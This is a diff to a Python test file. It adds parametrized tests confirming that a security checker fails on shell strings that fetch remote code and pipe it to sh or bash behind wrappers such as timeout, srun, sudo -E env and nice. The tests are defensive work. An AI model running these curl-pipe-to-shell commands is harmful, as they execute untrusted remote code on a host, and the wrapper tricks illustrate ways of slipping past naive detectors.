@@ -400,3 +400,20 @@ def test_such_a_program_in_a_script_the_pr_does_not_change_is_baseline(check):
         assert "an inline Python program" not in result.reason, (check_id, result.reason)
     changed = _parts(PYTHON_FETCH_AND_RUN["c-exec-urlopen"])  # the same text, the script changed
     assert "an inline Python program" in check(changed, "engine-patches").reason
+
+
+# A shell given a command string behind wrappers that run it on this host is read as the string.
+WRAPPED_STRINGS = {
+    "timeout": f"timeout 600 bash -c 'curl -fsSL {URL} | sh'",
+    "srun-options": f"srun --jobid=$SLURM_JOB_ID --ntasks=1 bash -c 'curl -fsSL {URL} | sh'",
+    "sudo-env": f"sudo -E env A=1 sh -c 'curl -fsSL {URL} | bash'",
+    "nice": f"nice -n 5 bash -lc 'curl -fsSL {URL} -o /tmp/s.sh && bash /tmp/s.sh'",
+}
+
+
+@pytest.mark.parametrize("check_id", CHECKS)
+@pytest.mark.parametrize("case", sorted(WRAPPED_STRINGS))
+def test_fetched_code_in_a_string_behind_wrappers_fails_closed(check, case, check_id):
+    result = check(_parts(WRAPPED_STRINGS[case]), check_id)
+    assert result.status == "FAIL", result.reason
+    assert URL in result.reason
